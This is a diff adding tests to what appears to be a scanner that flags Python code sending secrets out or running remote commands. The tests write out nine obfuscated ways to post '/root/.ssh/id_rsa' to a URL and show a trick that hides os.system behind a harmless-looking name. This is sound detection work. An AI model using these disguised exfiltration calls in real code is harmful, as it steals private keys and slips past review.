@@ -343,3 +343,35 @@ ALTERNATIVES = {
 def test_one_secret_path_among_several_values_is_enough(text: str) -> None:
     assert FILE in blocks(one(text))
     assert FILE not in blocks(one(text.replace(".s", ".a").replace("id_r", "id_a")))
+
+
+APPLY = "def go(f, *a, **k):\n    return f(*a, **k)\n"
+ROUNDABOUT = {
+    "a call of its call": ("", "requests.post.__call__({u}, data=open.__call__({p}).read.__call__())"),
+    "a function that only calls": (APPLY, "go(requests.post, {u}, data=go(go(open, {p}).read))"),
+    "a lambda that only calls": ("", "(lambda f, *a, **k: f(*a, **k))(requests.post, {u}, data=[open][0]({p}).read())"),
+    "a list that is spread": ("", "requests.post(*[{u}], **{{'data': open(*[{p}]).read(*[])}})"),
+    "out of a table": ("", "{{'go': requests.post}}['go']({u}, data={{'go': open({p}).read}}['go']())"),
+    "asked for by name": ("", "getattr(requests, 'post')({u}, data=getattr(open({p}), 'read')())"),
+    "out of the object's table": ("", "vars(requests)['post']({u}, data=open({p}).__getattribute__('read')())"),
+    "made of a part": (
+        "import functools as t\n",
+        "t.partial(requests.post, {u})(data=t.partial(open({p}).read)())",
+    ),
+    "made by an operator": (
+        "import operator as o\n",
+        "o.methodcaller('post', {u}, data=o.attrgetter('read')(open({p}))())(requests)",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("before", "call"), ROUNDABOUT.values(), ids=ROUNDABOUT)
+def test_a_call_written_in_a_roundabout_way_is_seen_where_it_is_called(before: str, call: str) -> None:
+    for path, told in (("'/root/.ssh/id_rsa'", True), ("'notes/today.txt'", False)):
+        text = f"{POST}{before}{call.format(u=U, p=path)}\n"
+        assert (SENT in blocks(one(text))) is told, text
+
+
+def test_an_own_function_with_a_known_name_is_no_way_to_hide_a_command() -> None:
+    own = "import os\ndef partial(f, x):\n    return os.system\n"
+    assert REMOTE in blocks(one(f"{own}partial(print, 'x')('{DROPPER}')\n"))
